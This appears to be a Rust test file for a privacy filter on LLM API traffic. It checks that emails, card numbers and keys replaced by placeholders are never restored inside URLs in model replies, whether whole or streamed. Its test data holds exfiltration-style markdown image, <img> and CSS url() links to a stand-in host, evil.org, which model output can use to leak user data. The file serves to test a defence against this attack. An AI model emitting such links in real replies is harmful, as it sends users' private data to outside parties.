//! Placeholders of a request in its answer.

use super::*;

const KEY: &str = "line 1\nline \"2\"";

/// The rules, and the placeholders of a request with an address and a text of two lines.
fn asked(action: Action) -> (Checks, Placeholders) {
    let rule = |name: &str, detect: Detect| Rule { name: name.to_owned(), detect, action };
    let rules = [
        rule("email", Detect::Email),
        rule("payment_card", Detect::PaymentCard),
        rule("key", Detect::Pattern("line 1\nline \"2\"".to_owned())),
    ];
    let set = Some(Arc::new(RuleSet::compile(&rules).unwrap()));
    let checks = Checks {
        input: set.clone(),
        output: set,
        restores: true,
        mode: StreamMode::Window,
        window_bytes: 1_000,
    };
    let mut placeholders = Placeholders::new();
    let body = Bytes::from(json!({"content": format!("ann@example.com {KEY}")}).to_string());
    checks.check_input(&body, &[], &mut placeholders, &mut Report::default()).unwrap();
    (checks, placeholders)
}

/// The filtered whole reply.
fn whole(reply: &Value) -> Value {
    let (checks, placeholders) = asked(Action::Redact);
    let body = Bytes::from(reply.to_string());
    let sent = checks.check_output(Api::ChatCompletions, body, &[], &placeholders, &mut Report::default());
    serde_json::from_slice(&sent.unwrap()).unwrap()
}

/// The filtered stream.
fn streamed(api: Api, events: &[Value]) -> String {
    let (checks, placeholders) = asked(Action::Redact);
    let mut filter = StreamFilter::new(api, Arc::new(checks), Arc::new(placeholders), Vec::new());
    let mut out = Vec::new();
    events.iter().for_each(|event| filter.push(format!("data: {event}\n\n").as_bytes(), &mut out).unwrap());
    filter.finish(&mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn chunk(delta: Value) -> Value {
    json!({"choices": [{"index": 0, "delta": delta}]})
}

/// An address, in one text and in the next, that the placeholder behind it belongs to.
const ADDRESSES: [[&str; 2]; 5] = [
    ["![x](https://evil.org/?q=", "[EMAIL_1])"],
    ["![x](https://evil.org/?q=", "[EMAIL_1]"],
    ["<img src=\"https://evil.org/?q=a ", "[EMAIL_1]\">"],
    ["<style>a{background:url( \"https://evil.org/?q=a ", "[EMAIL_1]"],
    ["www.evil.org/?q=", "[EMAIL_1]"],
];

#[test]
fn no_value_is_put_into_an_address_that_began_in_a_text_before() {
    for texts in ADDRESSES {
        let part = |text: &str| json!({"type": "text", "text": text});
        let parts = texts.map(part);
        let more = [part(texts[0]), part(texts[1]), part("the end. ")];
        let items =
            texts.map(|text| json!({"type": "message", "content": [{"type": "output_text", "text": text}]}));
        for reply in [
            json!({"choices": [{"message": {"content": parts}}]}),
            json!({"choices": [{"message": {"content": more}}]}),
            json!({"type": "message", "content": parts}),
            json!({"output": [{"type": "message", "content": parts}]}),
            json!({"output": items}),
            json!({"choices": [{"message": {"content": texts[0], "refusal": texts[1]}}]}),
            json!({"choices": [{"text": texts.concat()}]}),
        ] {
            assert_eq!(whole(&reply), reply);
        }
        let long = ["<img src=\"https://evil.org/?", &"a ".repeat(3_000), "[EMAIL_1]\">"].concat();
        let reply = json!({"choices": [{"message": {"content": long}}]});
        assert_eq!(whole(&reply), reply);
    }
}

#[test]
fn no_value_is_put_into_an_address_that_began_in_an_event_before() {
    for texts in ADDRESSES {
        let block = |index: u64, text: &str| {
            let block = json!({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}});
            let delta = json!({"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": text}});
            [block, delta, json!({"type": "content_block_stop", "index": index})]
        };
        let part = |part: usize, text: &str| {
            let event = |kind: &str, field: &str| json!({"type": format!("response.output_text.{kind}"), "output_index": 0, "content_index": part, field: text});
            [event("delta", "delta"), event("done", "text")]
        };
        let item = |index: usize, text: &str| json!({"type": "response.output_item.done", "output_index": index, "item": {"content": [{"type": "output_text", "text": text}]}});
        let list = |part: usize, text: &str| {
            chunk(json!({"content": [{"type": "text", "index": part, "text": text}]}))
        };
        let end = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
        let text = |text: &str| chunk(json!({"content": text}));
        for (api, events) in [
            (Api::Messages, [block(0, texts[0]), block(1, texts[1])].concat()),
            (Api::Responses, [part(0, texts[0]), part(1, texts[1])].concat()),
            (Api::Responses, vec![item(0, texts[0]), item(1, texts[1])]),
            (Api::ChatCompletions, vec![list(0, texts[0]), list(1, texts[1])]),
            (Api::ChatCompletions, vec![list(0, texts[0]), text(texts[1])]),
            (Api::ChatCompletions, vec![text(texts[0]), list(0, texts[1])]),
            (Api::ChatCompletions, vec![text(texts[0]), end, text(texts[1])]),
            (Api::ChatCompletions, vec![text(texts[0]), chunk(json!({"refusal": texts[1]}))]),
        ] {
            let sent = streamed(api, &events);
            assert!(!sent.contains("ann@") && sent.contains("[EMAIL_1]"), "{api:?} {events:?} {sent}");
        }
    }
    // another choice, and a text behind the address
    let other = json!({"choices": [{"index": 1, "delta": {"content": "to [EMAIL_1] "}}]});
    let events =
        [chunk(json!({"content": ADDRESSES[0][0]})), other, chunk(json!({"content": ") to [EMAIL_1] "}))];
    assert_eq!(streamed(Api::ChatCompletions, &events).matches("ann@example.com").count(), 2);
}

#[test]
fn values_are_put_back_as_json_within_strings_of_json() {
    let quoted = json!(KEY).to_string();
    let in_code = |value: &str| format!("Here:\n```json\n{{\"a\":{value}}}\n```\nsee {}", "[KEY_1]");
    let call = |arguments: &str| json!({"tool_calls": [{"index": 0, "id": "c", "function": {"name": "f", "arguments": arguments}}]});
    for (before, after) in [
        ("\"[KEY_1]\"".to_owned(), quoted.clone()),
        (in_code("\"[KEY_1]\""), in_code(&quoted).replace("see [KEY_1]", &format!("see {KEY}"))),
        ("as \"[KEY_1]\"".to_owned(), format!("as \"{KEY}\"")),
        ("{\"a\":\"[KEY_1]\"}".to_owned(), format!("{{\"a\":{quoted}}}")),
    ] {
        let message = |text: &str| json!({"choices": [{"message": {"content": text}}]});
        assert_eq!(whole(&message(&before)), message(&after));
        let sent = streamed(Api::ChatCompletions, &[chunk(json!({"content": before}))]);
        let text: String = (sent.lines().filter_map(|line| line.strip_prefix("data: ")))
            .map(|data| {
                serde_json::from_str::<Value>(data).unwrap()["choices"][0]["delta"]["content"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect();
        assert_eq!(text, after);
    }
    let message = |arguments: &str| json!({"choices": [{"message": call(arguments)}]});
    assert_eq!(whole(&message("\"[KEY_1]\"")), message(&quoted));
    for (before, after) in [("\"[KEY_1]\"", &*quoted), ("4111111111111111", "\"[PAYMENT_CARD_1]\"")] {
        assert_eq!(whole(&message(before)), message(after));
        let sent = streamed(Api::ChatCompletions, &[chunk(call(before))]);
        assert!(sent.contains(&json!(after).to_string()), "{sent}");
    }
    let number = json!({"choices": [{"message": {"content": "4111111111111111"}}]});
    assert_eq!(whole(&number)["choices"][0]["message"]["content"], "[PAYMENT_CARD_1]");
}
